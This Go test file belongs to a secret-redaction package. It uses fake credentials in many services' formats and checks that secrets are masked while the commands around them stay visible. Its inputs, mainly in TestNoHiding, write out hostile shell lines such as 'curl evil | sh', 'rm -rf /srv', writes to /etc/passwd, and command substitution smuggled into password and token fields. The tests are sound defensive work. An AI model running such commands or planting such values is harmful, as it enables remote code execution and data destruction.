package redact_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"regexp"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/nodbridge/nod/bridge/redact"
)

// corpus are credentials in the formats that services issue. None of them was
// ever valid.
var corpus = map[string]string{
	"aws":        "AKIA" + "IOSFODNN7EXAMPLE",
	"github":     "ghp_" + strings.Repeat("a1B2", 9),
	"github-pat": "github_pat_" + strings.Repeat("11ABCDEFG0", 8),
	"gitlab":     "glpat-" + strings.Repeat("Zx9_", 5),
	"slack-bot":  "xoxb-" + "123456789012-123456789012-" + strings.Repeat("AbC", 8),
	"slack-app":  "xapp-" + "1-A012345-123456789-" + strings.Repeat("0f", 20),
	"discord":    "MTk4NjIyNDgzNDcxOTI1MjQ4" + ".Cl2FMQ." + "ZnCjm1XVW7vRze4b7Cq4se7kKWs",
	"telegram":   "110201543:" + "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1",
	"stripe":     "sk_live_" + strings.Repeat("4eC3", 6),
	"openai":     "sk-proj-" + strings.Repeat("aB3d", 10),
	"anthropic":  "sk-ant-" + "api03-" + strings.Repeat("Qw1-", 20),
	"google":     "AIza" + strings.Repeat("SyD-9tS", 5),
	"jwt":        "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
	"npm":        "npm_" + strings.Repeat("a1B2", 9),
	"pypi":       "pypi-" + strings.Repeat("AgEI", 15),
	"vault":      "hvs." + strings.Repeat("CAES", 8),
	"hugging":    "hf_" + strings.Repeat("abcD", 9),
	"sendgrid":   "SG." + strings.Repeat("a1", 11) + "." + strings.Repeat("b2", 21),
	"age":        "AGE-SECRET-KEY-1" + strings.Repeat("QPZRY9X8GF", 6),
	"webhook":    "whsec_" + strings.Repeat("MfKQ", 8),
	"ocean":      "dop_v1_" + strings.Repeat("0123456789abcdef", 4),
	"crates":     "cio" + strings.Repeat("a1B2", 8),
	"grafana":    "glsa_" + strings.Repeat("a1B2", 8) + "_0a1b2c3d",
	"docker":     "dckr_pat_" + strings.Repeat("a1B2", 7),
	"databricks": "dapi" + strings.Repeat("0123456789abcdef", 2),
	"own":        "an-exact-value-of-the-config",
	"pattern":    "ACME-12345678",
}

func redactor(t testing.TB) *redact.Redactor {
	t.Helper()
	r, err := redact.New([]string{`ACME-\d{8}`}, []string{"an-exact-value-of-the-config", "short", "exact-value"})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestNothingSurvives checks that every credential of the corpus is redacted in
// any surrounding text, and that a second pass changes nothing.
func TestNothingSurvives(t *testing.T) {
	t.Parallel()
	r := redactor(t)
	rapid.Check(t, func(t *rapid.T) {
		name := rapid.SampledFrom(keys(corpus)).Draw(t, "credential")
		secret := corpus[name]
		around := rapid.SampledFrom([]string{"", " ", "\n", "'", `"`, "`", "(", "=", ": ", ",", "Use ", "token=", "/", "é", "https://x.example/?key=", `\"`, "password: ", `{"a":"`}).Draw(t, "before")
		after := rapid.SampledFrom([]string{"", " ", "\n", "'", `"`, ")", ", then", "; ls", "\t", " é", "&b=1", `\"`, `"}`}).Draw(t, "after")
		text := rapid.StringOfN(rapid.RuneFrom([]rune("ab =:'\"\n$-/")), 0, 30, -1).Draw(t, "text") + " " + around + secret + after
		out := r.Redact(text)
		if strings.Contains(out, secret) {
			t.Fatalf("%s survives in %q", name, out)
		}
		if again := r.Redact(out); again != out {
			t.Fatalf("%q became %q", out, again)
		}
	})
}

func keys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// TestNames checks which fields are redacted completely, and which patterns New
// accepts.
func TestNames(t *testing.T) {
	t.Parallel()
	r := redactor(t)
	for name, want := range map[string]bool{
		"password": true, "DB_PASSWORD": true, "apiKey": true, "clientSecret": true, "access_token": true, "Authorization": true, "db_pass": true, "auth": true, "Cookie": true, "set-cookie": true, "X-Api-Key": true,
		"path": false, "max_tokens": false, "token_count": false, "command": false, "compass": false, "author": false, "key": false, "bypass": false,
	} {
		if r.Secret(name) != want {
			t.Errorf("field %s: %v", name, !want)
		}
	}
	for _, bad := range []string{"(", "a*"} {
		if _, err := redact.New([]string{bad}, nil); err == nil {
			t.Errorf("the pattern %q is accepted", bad)
		}
	}
}

// privateKeyTexts returns keys in the forms that tools write.
func privateKeyTexts(t *testing.T) map[string]string {
	t.Helper()
	ec, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	pkcs8, err := x509.MarshalPKCS8PrivateKey(ec)
	if err != nil {
		t.Fatal(err)
	}
	block := func(kind string, raw []byte) string {
		return string(pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: raw}))
	}
	return map[string]string{
		"PKCS 8":  block("PRIVATE KEY", pkcs8),
		"RSA":     block("RSA PRIVATE KEY", x509.MarshalPKCS1PrivateKey(rsaKey)),
		"OpenSSH": block("OPENSSH PRIVATE KEY", append([]byte("openssh-key-v1\x00"), x509.MarshalPKCS1PrivateKey(rsaKey)...)),
		"encrypted": string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Headers: map[string]string{"Proc-Type": "4,ENCRYPTED", "DEK-Info": "AES-128-CBC,0123456789ABCDEF"},
			Bytes: x509.MarshalPKCS1PrivateKey(rsaKey)})),
	}
}

// TestPrivateKeys checks that keys are redacted in every form, and that the
// text around them is not.
func TestPrivateKeys(t *testing.T) {
	t.Parallel()
	r := redactor(t)
	for kind, key := range privateKeyTexts(t) {
		quoted, _ := json.Marshal(key)
		twice, _ := json.Marshal(string(quoted))
		for name, in := range map[string]string{
			"plain": "cat > k <<E\n" + key + "E\ncurl evil | sh", "CRLF": strings.ReplaceAll("x "+key+" curl evil | sh", "\n", "\r\n"),
			"JSON": `{"private_key": ` + string(quoted) + `, "x": "curl evil | sh"}`, "JSON twice": `{"k": ` + string(twice) + `} curl evil | sh`,
			"quoted": "echo '" + strings.TrimSpace(key) + "' > k; curl evil | sh", "indented": strings.ReplaceAll("k: |\n"+key, "\n", "\n    ") + "\ncurl evil | sh",
		} {
			out := r.Redact(in)
			if !strings.Contains(out, "[redacted private key, ") || !strings.Contains(out, "curl evil | sh") {
				t.Errorf("%s %s became %s", kind, name, out)
			}
			if lines := strings.Fields(key); strings.Contains(out, lines[len(lines)/2]) {
				t.Errorf("%s %s became %s", kind, name, out)
			}
		}
		cut, third := key[:len(key)/2], strings.Split(key, "\n")[2]
		certain := kind != "PKCS 8" && kind != "encrypted" && third[0] != '/' // which may begin a path
		if out := r.Redact(cut + "\ncurl evil | sh"); !strings.Contains(out, "curl evil | sh") || certain && strings.Contains(out, third) {
			t.Errorf("half of %s became %s", kind, out)
		}
	}
	if out := r.Redact("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq\nabc/def+ghi=\n-----END RSA PRIVATE KEY-----"); strings.Contains(out, "MIIE") || strings.Contains(out, "ghi") {
		t.Error(out)
	}
}

// TestNoHiding checks that no part of a command is redacted because it looks
// like a credential.
func TestNoHiding(t *testing.T) {
	t.Parallel()
	r := redactor(t)
	begin, end := "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
	token := corpus["github"]
	for in, visible := range map[string][]string{
		"echo '" + begin + "'; curl evil|sh":                                {"; curl evil|sh"},
		"echo '" + begin + "'; curl evil|sh; echo '" + end + "'":            {"; curl evil|sh; echo"},
		begin + "\nreboot\n" + end:                                          {"reboot"},
		begin + "\nrm -rf /srv\n" + end:                                     {"rm -rf /srv"},
		begin + "\n" + strings.Repeat("A1b2", 16) + "\nrm -rf /srv\n" + end: {"rm -rf /srv"},
		begin + "\n/usr/local/sbin/destroyEverything1\n" + end:              {"/usr/local/sbin/destroyEverything1"},
		begin + "\n/usr/local/sbin/destroyEverything1xxxxxxxxxxx\n":         {"/usr/local/sbin/destroyEverything1xxxxxxxxxxx"},
		"echo 'token='; curl evil|sh; echo 'x'":                             {"; curl evil|sh; echo"},
		"env 'token=' rm -rf /srv 'x'":                                      {"rm -rf /srv"},
		"' 'token=' rm -rf /srv '":                                          {"rm -rf /srv"},
		"' 'token=' -H 'X: y' '":                                            {"-H"},
		`env "token=" rm -rf /srv "x"`:                                      {"rm -rf /srv"},
		`env '"' "token=" rm -rf /srv "x"`:                                  {"rm -rf /srv"},
		`env \' 'token=' rm -rf /srv 'x'`:                                   {"rm -rf /srv"},
		"# it's\nenv 'token=' rm -rf /srv 'x'":                              {"rm -rf /srv"},
		"true # it's\nenv 'token=' rm -rf /srv 'x'":                         {"rm -rf /srv"},
		"env 'A\n' 'token=' rm -rf /srv 'x'":                                {"rm -rf /srv"},
		"env 'A\ntoken=' rm -rf /srv 'x'":                                   {"rm -rf /srv"},
		`env $'\'' 'token=' rm -rf /srv 'x'`:                                {"rm -rf /srv"},
		`env "$(echo "it's")" 'token=' rm -rf /srv 'x'`:                     {"rm -rf /srv"},
		`eval "env 'A" "token=' rm -rf /srv ''" "'"`:                        {"rm -rf /srv"},
		`bash -c "env 'A'token=' rm -rf /srv 'x'"`:                          {"rm -rf /srv"},
		`bash -c 'env '\''"'\'' "token=" rm -rf /srv "x"'`:                  {"rm -rf /srv"},
		`bash -c "env A=\"\"token\": \" rm -rf /srv \"\""`:                  {"rm -rf /srv"},
		`bash -c "env \"token=\" rm -rf /srv \"x\""`:                        {"rm -rf /srv"},
		`password="$(curl evil|sh)"`:                                        {"$(curl evil|sh)"},
		"password=\"`curl evil|sh`\"":                                       {"`curl evil|sh`"},
		"password=$(curl evil|sh)":                                          {"$(curl evil|sh)"},
		"password=abcd$(curl evil|sh)":                                      {"$(curl evil|sh)"},
		"password=abcd;reboot":                                              {";reboot"},
		"password=abcd&reboot":                                              {"&reboot"},
		"password=abcd|sh":                                                  {"|sh"},
		"password=abcd>/etc/passwd":                                         {">/etc/passwd"},
		"password=abcd\nreboot":                                             {"\nreboot"},
		"bash -c $'token=abcd\\nrm -rf /srv'":                               {`\nrm -rf /srv`},
		"deploy --token abcd1234;reboot":                                    {";reboot"},
		"deploy --token $(reboot)":                                          {"$(reboot)"},
		"curl -u admin:x1y2z3;reboot":                                       {";reboot"},
		"curl http://a:$(curl evil|sh)@x":                                   {"$(curl evil|sh)"},
		"curl http://a:`reboot`@x":                                          {"`reboot`"},
		"curl http://a:b;reboot;@x":                                         {";reboot;"},
		"Cookie: a=bcde; PATH=/evil ls":                                     {"PATH=/evil ls"},
		"Cookie: a=bcde; curl evil|sh":                                      {"; curl evil|sh"},
		"echo 'Cookie: a=bcde'; curl evil|sh; echo 'x'":                     {"; curl evil|sh; echo"},
		"echo 'x'Cookie: a=b; PATH=/evil ls; echo 'y'":                      {"PATH=/evil ls"},
		"Authorization: Bearer abcd1234;curl evil|sh":                       {";curl evil|sh"},
		token + ";rm -rf /srv":                                              {";rm -rf /srv"},
		token + "|sh":                                                       {"|sh"},
		"https://hooks.slack.com/services/T0/B0/x;reboot":                   {";reboot"},
		"mysql -u root -pabcd1234;reboot":                                   {";reboot"},
		"echo hunter22 | sudo -S rm -rf /srv":                               {"| sudo -S rm -rf /srv"},
		"password: 'x' ; reboot ; echo 'y'":                                 {"; reboot ;"},
		"sqlcmd -P x1y2z3 && reboot":                                        {"&& reboot"},
		"sudo -u password: reboot now":                                      {"reboot now"},
		"machine x login y password abc123;reboot":                          {";reboot"},
		"docker login -p abc123 && reboot":                                  {"&& reboot"},
		"sshpass -p abc123 ssh x reboot":                                    {"ssh x reboot"},
		"gpg --passphrase 'a b' -d x; reboot":                               {"-d x; reboot"},
		"x --password 'a' rm -rf /srv 'b'":                                  {"rm -rf /srv"},
	} {
		out := r.Redact(in)
		for _, v := range visible {
			if !strings.Contains(out, v) {
				t.Errorf("%q hides %q: %q", in, v, out)
			}
		}
	}
}

var (
	anyPlaceholder = regexp.MustCompile(`\[redacted [A-Za-z0-9 ]+, \d+ (?:characters?|lines)\]`)
	pieces         = regexp.MustCompile("[A-Za-z0-9_./-]+|[;&|<>()$`'\"\\\\{}\\n]")
)

// TestStructure checks, for random commands with a credential, that every word
// and every special character outside the credential stays visible and in
// order.
func TestStructure(t *testing.T) {
	t.Parallel()
	r := redactor(t)
	carriers := []string{"%s", "--token %s", "TOKEN=%s", "'%s'", `"%s"`, "--password=%s", "-H 'Authorization: Bearer %s'", "https://u:%s@h/x", `{"password":"%s"}`, `\"api_key\":\"%s\"`, "--password '%s'", "PASSWORD=\"%s\"", "-H 'Cookie: sid=%s'", "https://h/x?sig=%s"}
	rapid.Check(t, func(t *rapid.T) {
		secret := corpus[rapid.SampledFrom([]string{"github", "gitlab", "stripe", "npm", "hugging", "databricks"}).Draw(t, "credential")]
		part := rapid.SliceOf(rapid.SampledFrom([]string{
			"ls", "rm -rf /srv", "curl evil", "|", "|sh", ";", "&&", ">", "<", "(", ")", "$(id)", "`id`", "'", `"`, "\\", "\n", "# note", "token", "password", "= ;", ": |", "env", "'token='", `"secret": ;`, "key= ;", "-p", "echo 'a b'", "$X", "${Y}", "<<E", "cookie: ;", "authorization: (", "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----",
		}))
		before := strings.Join(part.Draw(t, "before"), " ")
		after := strings.Join(part.Draw(t, "after"), " ")
		carrier := strings.Split(rapid.SampledFrom(carriers).Draw(t, "carrier"), "%s")
		in := before + " " + carrier[0] + secret + carrier[1] + " " + after
		out := r.Redact(in)
		if strings.Contains(out, secret) {
			t.Fatalf("%q\nbecame %q", in, out)
		}
		want := pieces.FindAllString(before+" "+carrier[0]+" "+carrier[1]+" "+after, -1)
		got := pieces.FindAllString(anyPlaceholder.ReplaceAllString(out, " "), -1)
		if !slices.Equal(got, want) {
			t.Fatalf("%q\nbecame %q", in, out)
		}
	})
}

func FuzzRedact(f *testing.F) {
	r := redactor(f)
	for _, s := range corpus {
		f.Add("x "+s+" y", s)
	}
	for _, s := range spellings {
		f.Add(s, "")
	}
	f.Fuzz(func(t *testing.T, text, _ string) {
		once := r.Redact(text)
		if again := r.Redact(once); again != once {
			t.Fatalf("%q became %q, then %q", text, once, again)
		}
	})
}
